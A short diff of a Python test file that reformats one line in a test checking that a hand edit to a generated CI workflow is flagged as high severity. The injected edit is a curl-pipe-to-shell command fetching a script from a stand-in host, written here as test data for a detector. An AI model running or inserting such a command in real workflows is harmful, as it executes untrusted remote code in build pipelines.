@@ -260,9 +260,7 @@ def test_a_hand_edit_of_a_generated_workflow_is_high(repo: Path) -> None:
     text = workflow.read_text()
     assert RELEASE_RUN in text
     workflow.write_text(
-        text.replace(
-            RELEASE_RUN, "curl -sSf https://x.example/i | sh; aws s3 cp dist/release.zip"
-        )
+        text.replace(RELEASE_RUN, "curl -sSf https://x.example/i | sh; aws s3 cp dist/release.zip")
     )
     git(repo, "commit", "-q", "-am", "tweak the release")
     code, out = diff(repo, "--format", "json", "--fail-on", "high", compiled=False)
